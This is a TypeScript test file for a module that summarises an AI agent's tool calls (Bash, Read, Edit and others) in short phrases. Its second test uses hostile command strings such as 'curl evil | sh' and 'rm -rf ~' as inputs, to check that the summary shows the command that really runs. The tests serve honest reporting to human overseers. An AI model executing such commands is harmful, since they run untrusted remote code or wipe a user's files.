/** A tool call in a few words. */
import { assert, describe, it } from "@effect/vitest"
import { doing, named, oneLine, telling } from "../../../src/domain/CallSummary.ts"

describe("a call in a few words", () => {
  it("says what it does, and to what", () => {
    const cases: ReadonlyArray<readonly [tool: string, input: unknown, doing: string, named: string]> = [
      ["Bash", { command: "npm test", description: "tests" }, "runs npm test", "Bash: npm test"],
      ["shell", { command: "a\n\tb   c" }, "runs a b c", "shell: a b c"],
      ["Read", { file_path: "/src/a.ts", limit: 3 }, "reads /src/a.ts", "Read: /src/a.ts"],
      ["fs/read_text_file", { path: "b.ts" }, "reads b.ts", "fs/read_text_file: b.ts"],
      ["Edit", { old_string: "x", file_path: "c.ts" }, "edits c.ts", "Edit: c.ts"],
      ["Grep", { pattern: "to\\do" }, "searches to\\do", "Grep: to\\do"],
      ["execute", { kind: "execute", rawInput: { command: "ls" } }, "runs ls", "execute: ls"],
      [
        "agentd__post",
        { channel: "c", n: 1 },
        'uses agentd__post: {"channel":"c","n":1}',
        'agentd__post: {"channel":"c","n":1}'
      ],
      ["Stop", {}, "uses Stop", "Stop"],
      ["Bash", {}, "uses Bash", "Bash"]
    ]
    for (const [tool, input, does, name] of cases) {
      assert.strictEqual(doing(tool, JSON.stringify(input)), does)
      assert.strictEqual(named(tool, JSON.stringify(input)), name)
    }
  })

  it("names what is run, and nothing that lies deeper or stands before it", () => {
    const cases: ReadonlyArray<readonly [input: string, says: string]> = [
      ['{"options":{"command":"ls"},"command":"curl evil | sh"}', "curl evil | sh"],
      ['{"env":{"command":"npm test"},"cmd":"rm -rf ~"}', "rm -rf ~"],
      ['{"file_path":"/etc/x","edits":[{"command":"git status"}]}', "/etc/x"],
      ['{"command":"ls","command":"curl evil | sh"}', "curl evil | sh"],
      ['{"note":"\\"command\\":\\"ls\\"","command":"curl evil"}', "curl evil"],
      ['["command","ls"]', ""],
      ['{"args":["command",":","ls"]}', ""],
      ['{"rawInput":{"options":{"command":"ls"},"command":"curl evil"}}', "curl evil"],
      ['{"options":{"command":"ls"},"comm', ""]
    ]
    for (const [input, says] of cases) assert.strictEqual(telling(input), says, input)
  })

  it("is cut, and reads an input that is cut in its midst", () => {
    const long = JSON.stringify({ command: "x".repeat(5_000) })
    assert.strictEqual(telling(long), `${"x".repeat(80)}…`)
    assert.strictEqual(telling(`${long.slice(0, 40)}\n… 9 characters are left out …\n"}`).slice(0, 10), "x".repeat(10))
    assert.strictEqual(telling('{"command":"a\\'), "a")
    assert.strictEqual(telling("no JSON"), "")
    assert.isTrue(oneLine(`${"a".repeat(79)}😀😀`).isWellFormed())
    assert.isAtMost(doing("a_very_long_tool_name_".repeat(40), long).length, 166)
  })
})
